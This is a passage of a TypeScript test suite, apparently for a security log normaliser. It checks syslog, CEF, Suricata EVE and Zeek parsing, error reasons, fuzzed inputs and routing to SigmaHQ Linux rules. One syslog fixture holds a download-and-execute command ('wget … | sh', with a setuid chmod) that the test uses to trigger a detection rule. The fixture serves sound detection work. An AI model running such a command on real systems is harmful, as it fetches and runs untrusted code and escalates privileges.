    expect(e['observer.product']).toBe('threat|manager');
    expect(e['rule.id']).toBe('100');
    expect(e['event.severity']).toBe(10);
    expect(e.message).toBe('Detected a=b and more');
    expect(e['source.ip']).toBe('10.0.0.1');
    expect(e['source.port']).toBe(1232);
    expect(e['url.domain']).toBe('evil.example');
    expect(e['user.name']).toBe('alice');
    expect(e['file.hash.sha256']).toBe('ab'.repeat(32));
    expect(e['@timestamp']).toBe('2023-09-19T08:26:40.000Z');
    expect(e['host.name']).toBe('host');
    const bare = ok(normaliseLine('cef', 'CEF:1|V|P|1|sig|Name|High|', ctx));
    expect(bare['event.severity']).toBe(8);
    expect(bare['@timestamp']).toBe('2026-11-26T12:00:00.000Z');
  });

  it('reads an upper-case host name as the host, and a zone name only in the Cisco form (with its offset)', () => {
    // "MAIL" / "DNS" were taken for a time zone: the host became "sshd[12]:" and the tag was lost.
    for (const host of ['MAIL', 'DNS', 'FW', 'UTC']) {
      const e = ok(normaliseLine('syslog', `<38>Oct 11 22:14:15 ${host} sshd[12]: Failed password for root`, ctx));
      expect([e['host.name'], e['process.name'], e['process.pid'], e.message]).toEqual([host, 'sshd', 12, 'Failed password for root']);
      expect(e['@timestamp']).toBe('2026-10-11T22:14:15.000Z');
    }
    // Cisco IOS with `show-timezone`: the zone is applied, and with no relay prefix there is no host.
    const est = ok(normaliseLine('syslog', '*Mar  1 18:46:11.123 EST: %SYS-5-CONFIG_I: Configured from console by vty0', ctx));
    expect(est['@timestamp']).toBe('2026-03-01T23:46:11.123Z');
    expect(est['host.name']).toBeUndefined();
    expect(est.message).toBe('%SYS-5-CONFIG_I: Configured from console by vty0');
    const cest = ok(normaliseLine('syslog', 'rtr1 812: Jun  3 10:00:00.000 CEST: %LINK-3-UPDOWN: Interface Gi0/1, changed state to down', ctx));
    expect([cest['host.name'], cest['@timestamp']]).toEqual(['rtr1', '2026-06-03T08:00:00.000Z']);
    // A sequence number ("42:") is not a host; `logging origin-id` puts the host first ("rtr2:").
    const utc = ok(normaliseLine('syslog', '<189>42: Mar  1 18:46:11: %SYS-5-CONFIG_I: Configured', ctx));
    expect([utc['host.name'], utc['@timestamp'], utc.message]).toEqual([undefined, '2026-03-01T18:46:11.000Z', '%SYS-5-CONFIG_I: Configured']);
    const origin = ok(normaliseLine('syslog', '<189>rtr2: 43: *Mar  1 18:46:11.001 UTC: %SYS-5-CONFIG_I: Configured', ctx));
    expect([origin['host.name'], origin['@timestamp']]).toEqual(['rtr2', '2026-03-01T18:46:11.001Z']);
    // An ambiguous zone name is refused with the reason, never read as UTC.
    expect(err(normaliseLine('syslog', 'rtr1 812: Jun  3 10:00:00.000 IST: %LINK-3-UPDOWN: down', ctx))).toMatch(/time zone "IST"/);
  });

  it('routes a tagged line to SigmaHQ\'s linux rules (product linux, service syslog / the program / auth)', () => {
    // Before, a line was product "<program>" / service "syslog": no linux rule ever saw one.
    const linux = loadRulesDir(sharedPath('data/sigma/rules/linux'));
    expect(linux.failures).toEqual([]);
    const engine = new SigmaEngine(linux.items);
    const fired = (line: string): string[] => {
      const e = ok(normaliseLine('syslog', line, ctx));
      return engine.process(sigmaView(e), 0, e.logsource).map((m) => m.ruleId ?? '').sort();
    };
    expect(fired('<38>Nov 26 10:00:00 web1 sshd[812]: fatal: buffer_get_string: bad string')).toEqual(['e76b413a-83d0-4b94-8e4c-85db4a5b8bdc']);
    expect(fired('<78>Nov 26 10:00:00 web1 CRON[812]: (root) REPLACE (root)')).toEqual(['af202fd3-7bff-4212-a25a-fb34606cfcbe']);
    expect(fired('<165>1 2026-11-26T10:00:00Z ftp1 vsftpd 12 - - Connection refused: tcp_wrappers denial.')).toEqual(['377f33a1-4b36-4ee1-acee-1dbe4b43cfbe']);
    expect(fired('<13>Nov 26 10:00:00 web1 bash: wget http://x/a.sh -O- | sh ; chmod +s /tmp/x')).toContain('2aa1440c-9ae9-4d92-84a7-a9e5f5e31695');
    const sudo = ok(normaliseLine('syslog', '<86>Nov 26 10:00:00 web1 sudo[9]: bob : COMMAND=/bin/sh', ctx));
    expect(sudo.logsource).toEqual({ product: 'linux', service: ['syslog', 'sudo', 'auth'] });
    // Network gear without a program tag keeps its own routing: the linux rules do not see it.
    const cisco = ok(normaliseLine('syslog', '172.16.5.10 6705: Feb 17 13:40:03.673: %SYS-5-CONFIG_I: REPLACE', ctx));
    expect(cisco.logsource).toEqual({ product: 'syslog', service: 'syslog' });
    expect(engine.process(sigmaView(cisco), 0, cisco.logsource)).toEqual([]);
  });

  it('gives a reason for every malformed syslog / CEF line', () => {
    expect(err(normaliseLine('syslog', '<192>1 2003-10-11T22:14:15Z h a p m - x', ctx))).toMatch(/PRI/);
    expect(err(normaliseLine('syslog', '<34>1 2003-10-11T22:14:15Z host', ctx))).toMatch(/truncated/);
    expect(err(normaliseLine('syslog', '<34>1 2003-10-11 h a p m - x', ctx))).toMatch(/timestamp/);
    expect(err(normaliseLine('syslog', '<34>1 2003-10-11T22:14:15Z h a p m [id x="1" x', ctx))).toMatch(/SD/);
    expect(err(normaliseLine('syslog', '<34>1 2003-10-11T22:14:15Z h a p m {bad}', ctx))).toMatch(/structured data/);
    expect(err(normaliseLine('syslog', 'no timestamp here at all', ctx))).toMatch(/3164 timestamp/);
    // An empty header field (two spaces) is not a value: RFC 5424 §6.2 writes a missing one "-".
    expect(err(normaliseLine('syslog', '<34>1 2003-10-11T22:14:15Z  su - ID47 - msg', ctx))).toMatch(/HOSTNAME is empty/);
    expect(err(normaliseLine('syslog', '<34>1 2003-10-11T22:14:15Z h su  ID47 - msg', ctx))).toMatch(/PROCID is empty/);
    expect(err(normaliseLine('syslog', `<34>1 2003-10-11T22:14:15Z h ${'a'.repeat(49)} - - - msg`, ctx))).toMatch(/APP-NAME must be 1 to 48/);
    // format=auto: a line that opens with <PRI> gets the syslog parser's reason, not "unrecognised".
    for (const line of ['<34>1 2003-10-11T22:14:15Z  su - ID47 - msg', '<34>1 2003-10-11 h a p m - x', '<34>1 2003-10-11T22:14:15Z h a p m {bad}', '<13>no time here']) {
      expect(err(normaliseLine('auto', line, ctx))).toBe(err(normaliseLine('syslog', line, ctx)));
    }
    expect(err(normaliseLine('auto', 'not a syslog line', ctx))).toMatch(/unrecognised line/);
    expect(err(normaliseLine('cef', 'CEF:0|a|b|c', ctx))).toMatch(/header has/);
    expect(err(normaliseLine('cef', 'CEF:x|a|b|c|d|e|f|', ctx))).toMatch(/version/);
    expect(err(normaliseLine('cef', 'CEF:0|a|b|c|d|e|f|junk src=1.2.3.4', ctx))).toMatch(/not key=value/);
    expect(err(normaliseLine('cef', 'CEF:0|a|b|c|d|e|f|rt=yesterday', ctx))).toMatch(/rt/);
    expect(err(normaliseLine('cef', 'plain text', ctx))).toMatch(/CEF/);
  });
});

describe('sniffing and bounds', () => {
  it('sniffs every format', () => {
    expect(sniffFormat('{"timestamp":"2024-01-01T00:00:00Z","event_type":"flow"}')).toBe('suricata-eve');
    expect(sniffFormat('{"_path":"conn","ts":1}')).toBe('zeek');
    expect(sniffFormat('{"Event":{"System":{}}}')).toBe('windows');
    expect(sniffFormat('{"EventID":1,"Channel":"Security"}')).toBe('windows');
    expect(sniffFormat('{"@timestamp":"2024-01-01T00:00:00Z"}')).toBe('ecs');
    expect(sniffFormat('<34>1 2003-10-11T22:14:15Z h a p m - x')).toBe('syslog');
    expect(sniffFormat('Oct 11 22:14:15 h su: x')).toBe('syslog');
    expect(sniffFormat('CEF:0|a|b|c|d|e|f|')).toBe('cef');
    expect(sniffFormat('{"foo":1}')).toBeUndefined();
    expect(sniffFormat('{nope')).toBeUndefined();
    expect(sniffFormat('hello')).toBeUndefined();
  });

  it('refuses empty, oversized, too deep, non-object and unrecognised input with a reason', () => {
    expect(err(normaliseLine('auto', '', ctx))).toMatch(/empty/);
    expect(err(normaliseLine('syslog', '   ', ctx))).toMatch(/empty/);
    expect(err(normaliseLine('suricata-eve', 'x'.repeat(2000), ctx, { maxLineLength: 1000 }))).toMatch(/exceeds the limit/);
    const deep = `${'{"a":'.repeat(40)}1${'}'.repeat(40)}`;
    expect(err(normaliseLine('auto', deep, ctx))).toMatch(/deeper than 32/);
    expect(err(normaliseLine('ecs', '[1,2]', ctx))).toMatch(/JSON objects|must be an object/);
    expect(err(normaliseLine('suricata-eve', '{"timestamp":', ctx))).toMatch(/invalid JSON/);
    expect(err(normaliseLine('auto', '{"foo":1}', ctx))).toMatch(/unrecognised JSON record/);
    expect(err(normaliseLine('auto', '\u0000\u0001binary', ctx))).toMatch(/unrecognised line/);
    expect(err(normaliseLine('zeek', 'not json', ctx))).toMatch(/JSON objects/);
    expect(err(normaliseObject('syslog', {}, ctx))).toMatch(/timestamp|text format/);
    expect(err(normaliseLine('suricata-eve', null as unknown as string, ctx))).toMatch(/not a string/);
  });

  it('never throws, whatever the line (property)', () => {
    const formats = ['auto', 'suricata-eve', 'ecs', 'windows', 'zeek', 'syslog', 'cef'] as const;
    fc.assert(
      fc.property(fc.constantFrom(...formats), fc.oneof(fc.string({ maxLength: 300 }), fc.json({ maxDepth: 6 }), fc.string({ unit: 'binary', maxLength: 200 }).map((s) => `<34>1 ${s}`), fc.string({ maxLength: 200 }).map((s) => `CEF:0|${s}`)), (format, line) => {
        const r = normaliseLine(format, line, ctx);
        if (r.ok) {
          expect(r.event['organization.id']).toBe('org-a');
          expect(typeof r.event['@timestamp']).toBe('string');
        } else expect(r.error.length).toBeGreaterThan(0);
      }),
      { numRuns: 3000 },
    );
  });

  it('checkLine (what ingestion runs before spooling) accepts and refuses exactly as normaliseLine, with the same reasons', () => {
    const same = (format: Parameters<typeof normaliseLine>[0], line: string) => {
      const full = normaliseLine(format, line, ctx);
      const quick = checkLine(format, line, ctx);
      expect(quick.ok, line.slice(0, 120)).toBe(full.ok);
      if (full.ok && quick.ok) expect(quick.format).toBe(full.format);
      if (!full.ok && !quick.ok) expect(quick.error).toBe(full.error);
    };
    const real = [
      ...lines('suricata-eve/surevego/testdata/eve.json'),
      ...lines('suricata-eve/suricata-verify/tests/output-eve-fileinfo/expected/eve.json'),
      ...['dns.first-3_5MB', 'ssl.first-3_5MB', 'ftp', 'notice'].flatMap((k) => lines(`zeek-wrccdc-2018/zeek-ndjson/${k}.ndjson`).slice(0, 300)),
    ];
    for (const l of real) for (const f of ['auto', 'suricata-eve', 'zeek', 'ecs'] as const) same(f, l);
    const eve = (o: Record<string, unknown>) => JSON.stringify({ timestamp: '2024-01-01T00:00:00Z', ...o });
    for (const l of [eve({}), eve({ event_type: '' }), eve({ event_type: 7 }), eve({ event_type: 'alert' }), eve({ event_type: 'alert', alert: 'x' }), eve({ event_type: 'alert', alert: {} }),
      eve({ event_type: 'flow', timestamp: 'yesterday' }), '{"event_type":"flow"}', '{"timestamp":', '[1]', '', 'x']) {
      for (const f of ['auto', 'suricata-eve'] as const) same(f, l);
    }
    const formats = ['auto', 'suricata-eve', 'ecs', 'windows', 'zeek', 'syslog', 'cef'] as const;
    fc.assert(fc.property(fc.constantFrom(...formats), fc.oneof(fc.json({ maxDepth: 4 }), fc.record({ timestamp: fc.oneof(fc.constant('2024-05-01T10:00:00.123Z'), fc.string()), event_type: fc.oneof(fc.constantFrom('alert', 'dns', 'flow', 'http', ''), fc.integer()), alert: fc.oneof(fc.constant({ signature: 'x' }), fc.string()) }, { requiredKeys: [] }).map((o) => JSON.stringify(o))), (format, line) => {
      same(format, line);
    }), { numRuns: 2000 });
  });

  describe('quickEve (ingestion\'s scan of an EVE line\'s bytes)', () => {
    /** quickEve true ⇒ checkLine accepts the decoded line as EVE; the line is scanned inside a larger body. */
    const agrees = (format: Parameters<typeof checkLine>[0], bytes: Buffer, o: NormaliseOptions = {}): boolean => {
      const body = Buffer.concat([Buffer.from('{"x":"\n'), bytes, Buffer.from('\n"}]1')]);
      const quick = quickEve(body, 7, 7 + bytes.length, { ...o, format });
      const full = checkLine(format, body.toString('utf8', 7, 7 + bytes.length), ctx, o);
      if (quick) expect(full, bytes.toString('utf8').slice(0, 160)).toEqual({ ok: true, format: 'suricata-eve' });
      return quick;
    };
    const text = (format: Parameters<typeof checkLine>[0], line: string, o: NormaliseOptions = {}) => agrees(format, Buffer.from(line), o);

    it('vouches for every real EVE line that checkLine accepts, and only for those', () => {
      const real = [...lines('suricata-eve/surevego/testdata/eve.json'), ...lines('suricata-eve/suricata-verify/tests/output-eve-fileinfo/expected/eve.json')];
      let vouched = 0;
      for (const l of real) {
        for (const f of ['auto', 'suricata-eve'] as const) if (text(f, l)) vouched++;
        for (const f of ['zeek', 'ecs', 'windows'] as const) expect(text(f, l)).toBe(false);
      }
      expect(vouched).toBe(2 * real.length);
      for (const l of lines('zeek-wrccdc-2018/zeek-ndjson/dns.first-3_5MB.ndjson').slice(0, 300)) expect(text('auto', l)).toBe(false);
    });

    it('leaves to checkLine what it cannot vouch for: malformed JSON, refused records, escapes, depth, length', () => {
      const eve = '{"timestamp":"2024-01-01T00:00:00Z","event_type":"dns","dns":{"rrname":"a.example"}}';
      expect(text('auto', eve)).toBe(true);
      for (const bad of [
        '{"timestamp":"2024-01-01T00:00:00Z","event_type":"dns"', // unterminated
        '{"timestamp":"2024-01-01T00:00:00Z","event_type":"dns"}x', // trailing garbage
        '{"timestamp":"2024-01-01T00:00:00Z","event_type":"dns",}', // trailing comma
        '{"timestamp":"2024-01-01T00:00:00Z","event_type":"dns","n":01}', '{"timestamp":"2024-01-01T00:00:00Z","event_type":"dns","n":1.}',
        '{"timestamp":"2024-01-01T00:00:00Z","event_type":"dns","n":-}', '{"timestamp":"2024-01-01T00:00:00Z","event_type":"dns","n":1e}',
        '{"timestamp":"2024-01-01T00:00:00Z","event_type":"dns","n":tru}', '{"timestamp":"2024-01-01T00:00:00Z","event_type":"dns","s":"a\tb"}',
        '{"timestamp":"2024-01-01T00:00:00Z","event_type":"dns","s":"\\x"}', '{"timestamp":"2024-01-01T00:00:00Z","event_type":"dns","s":"\\u12G4"}',
        '{"timestamp":"2024-01-01T00:00:00Z","event_type":"dns" "s":1}', '{"timestamp":"2024-01-01T00:00:00Z","event_type":"dns","s"1}',
        '{"timestamp":"2024-01-01T00:00:00Z","event_type":""}', '{"timestamp":"2024-01-01T00:00:00Z","event_type":7}',
        '{"timestamp":"2024-01-01T00:00:00Z","event_type":"alert"}', '{"timestamp":"2024-01-01T00:00:00Z","event_type":"alert","alert":[1]}',
        '{"timestamp":"yesterday","event_type":"dns"}', '{"timestamp":null,"event_type":"dns"}', '{"event_type":"dns"}',
        // The last of duplicate members counts, as JSON.parse keeps it; an escaped key may spell a noted one.
        '{"timestamp":"2024-01-01T00:00:00Z","event_type":"dns","event_type":""}', '{"timestamp":"2024-01-01T00:00:00Z","event_type":"dns","event\\u005ftype":7}',
        '{"timestamp":"2024-01-01T00:00:00Z","event_type":"\\u0061lert"}', '{"timestamp":"2024-01-01T00:00:00Z","event_type":"alert","alert":{},"alert":null}',
        '[{"timestamp":"2024-01-01T00:00:00Z","event_type":"dns"}]', ' {"timestamp":"2024-01-01T00:00:00Z","event_type":"dns"}', '\ufeff{"timestamp":"2024-01-01T00:00:00Z","event_type":"dns"}',
      ]) expect(text('auto', bad), bad).toBe(false);
      // Bytes that are not UTF-8 inside a string decode to U+FFFD, which JSON.parse accepts; outside one they are refused.
      expect(agrees('auto', Buffer.concat([Buffer.from('{"timestamp":"2024-01-01T00:00:00Z","event_type":"dns","s":"'), Buffer.from([0xff, 0xc0, 0xa2]), Buffer.from('"}')]))).toBe(true);
      expect(agrees('auto', Buffer.concat([Buffer.from('{"timestamp":"2024-01-01T00:00:00Z","event_type":"dns","s":'), Buffer.from([0xc2, 0xa0]), Buffer.from('1}')]))).toBe(false);
      // Whitespace, an alert with its object, numbers in every form, a numeric epoch timestamp.
      expect(text('auto', '{ "timestamp" : "2024-01-01T00:00:00Z" ,\t"event_type":"alert" , "alert" : { "a" : [ 1 , -0.5e+3 , true , false , null , "\\u00e9\\n" ] } }\r ')).toBe(true);
      expect(text('auto', '{"timestamp":1717236000.5,"event_type":"flow"}')).toBe(true);
      // Depth and length caps: held exactly at the limit, refused (left to checkLine) beyond.
      const nested = (n: number) => `{"timestamp":"2024-01-01T00:00:00Z","event_type":"dns","d":${'['.repeat(n - 1)}${']'.repeat(n - 1)}}`;
      expect(text('auto', nested(4), { maxDepth: 4 })).toBe(true);
      expect(text('auto', nested(5), { maxDepth: 4 })).toBe(false);
      expect(text('auto', eve, { maxLineLength: eve.length - 1 })).toBe(false);
      expect(text('auto', eve, { maxFields: 10 })).toBe(false); // long enough to need the budget scan
    });

    it('never vouches for a line checkLine refuses (generated records, mutated real lines, raw bytes)', () => {
      const real = lines('suricata-eve/surevego/testdata/eve.json').slice(0, 60);
      const alphabet = ['{', '}', '[', ']', '"', ',', ':', '\\', ' ', '0', '1', 'e', '-', '.', 'u', 't', 'n', '\u0000', '\u001f', 'é', '\t'];
      fc.assert(fc.property(fc.constantFrom(...real), fc.array(fc.tuple(fc.nat(), fc.nat(2), fc.constantFrom(...alphabet)), { minLength: 1, maxLength: 3 }), (line, edits) => {
        let l = line;
        for (const [at, kind, ch] of edits) {
          const k = at % (l.length + 1);
          l = kind === 0 ? l.slice(0, k) + ch + l.slice(k) : kind === 1 ? l.slice(0, k) + l.slice(k + 1) : l.slice(0, k) + ch + l.slice(k + 1);
        }
        text('auto', l);
      }), { numRuns: 4000 });
      fc.assert(fc.property(fc.record({
        timestamp: fc.oneof(fc.constant('2024-05-01T10:00:00.123Z'), fc.string(), fc.double(), fc.constant(null)),
        event_type: fc.oneof(fc.constantFrom('alert', 'dns', 'flow', ''), fc.string({ unit: 'binary' }), fc.integer()),
        alert: fc.oneof(fc.jsonValue(), fc.constant({ signature: 'x' })), rest: fc.jsonValue({ maxDepth: 5 }),
      }, { requiredKeys: [] }), fc.nat(40), (o, depth) => {
        text('auto', JSON.stringify(o), { maxDepth: 2 + (depth % 6) });
        text('suricata-eve', JSON.stringify(o, null, depth % 3));
      }), { numRuns: 3000 });
      fc.assert(fc.property(fc.constantFrom(...real), fc.uint8Array({ minLength: 1, maxLength: 4 }), fc.nat(), (line, junk, at) => {
        const b = Buffer.from(line);
        const k = at % b.length;
        agrees('auto', Buffer.concat([b.subarray(0, k), junk, b.subarray(k)]));
      }), { numRuns: 3000 });
    });
  });
});

